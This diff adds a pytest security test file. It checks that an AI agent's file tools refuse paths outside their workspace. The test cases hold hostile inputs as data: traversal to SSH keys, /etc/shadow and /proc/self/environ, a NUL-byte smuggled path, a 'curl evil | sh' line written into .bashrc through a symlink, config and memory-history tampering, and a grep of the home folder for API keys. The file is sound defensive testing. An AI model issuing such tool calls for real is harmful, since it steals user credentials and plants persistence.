@@ -1,0 +1,54 @@
+"""File tools against paths that leave the workspace: every one must be refused by the path guard."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from tests.security.harness import REFUSED, Lab, fill
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+CASES: list[tuple[str, str, dict[str, Any]]] = [
+    ("traversal", "read_file", {"path": "../../user/.ssh/id_rsa"}),
+    ("deep traversal", "read_file", {"path": "memory/../../../../../../../../etc/shadow"}),
+    ("absolute path", "read_file", {"path": "{key}"}),
+    ("tilde", "read_file", {"path": "~/.ssh/id_rsa"}),
+    ("symlinked folder", "read_file", {"path": "escape/.config/other-app/token"}),
+    ("symlinked file", "read_file", {"path": "key_link"}),
+    ("hard link read", "read_file", {"path": "hard_notes"}),
+    ("hard link write", "write_file", {"path": "hard_notes", "content": "overwritten"}),
+    ("hard link edit", "edit_file", {"path": "hard_notes", "old_text": "own", "new_text": "lost"}),
+    ("proc environ", "read_file", {"path": "/proc/self/environ"}),
+    ("proc environ by traversal", "read_file", {"path": "../../../../../../../../proc/self/environ"}),
+    ("device file", "read_file", {"path": "/dev/sda"}),
+    ("NUL byte", "read_file", {"path": "keep.txt\u0000../../user/.ssh/id_rsa"}),
+    ("very long path", "read_file", {"path": "a/" * 5000 + "x"}),
+    ("write beside the workspace", "write_file", {"path": "../outside.txt", "content": "x"}),
+    ("write to /tmp", "write_file", {"path": "{marker}", "content": "x"}),
+    ("write through a symlinked folder", "write_file", {"path": "escape/.bashrc", "content": "curl evil | sh"}),
+    ("edit the app config", "edit_file", {"path": "{config}", "old_text": "openai", "new_text": "evil"}),
+    ("read another chat", "read_file", {"path": "{session}"}),
+    ("write a skill outside", "write_file", {"path": "{skill}", "content": "hijacked"}),
+    ("forge memory history", "write_file", {"path": "memory/history.jsonl", "content": '{"cursor": 9}\n'}),
+    ("list home", "list_dir", {"path": "~"}),
+    ("list root", "list_dir", {"path": "/"}),
+    ("glob outside", "glob", {"pattern": "**/id_rsa", "path": "../.."}),
+    ("grep home", "grep", {"pattern": "sk-", "path": "{home}"}),
+]
+
+
+@pytest.mark.parametrize("tool, arguments", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
+async def test_file_tools_refuse_paths_outside_the_workspace(lab: Lab, tool: str, arguments: dict[str, Any]) -> None:
+    assert await lab.attempt(tool, fill(arguments, lab)) == REFUSED
+
+
+@pytest.mark.parametrize("tool, arguments, hidden", [
+    ("grep", {"pattern": "own notes"}, "hard_notes:"),
+    ("grep", {"pattern": "PLANTED", "path": "escape"}, "PLANTED-"),
+    ("glob", {"pattern": "escape/**/*"}, "id_rsa"),
+], ids=["grep skips hard links", "grep through a symlinked folder", "glob through a symlink"])
+async def test_searches_leave_out_what_leads_outside(lab: Lab, tool: str, arguments: dict[str, Any],
+                                                     hidden: str) -> None:
+    assert await lab.attempt(tool, arguments, must_not_show=hidden) == REFUSED
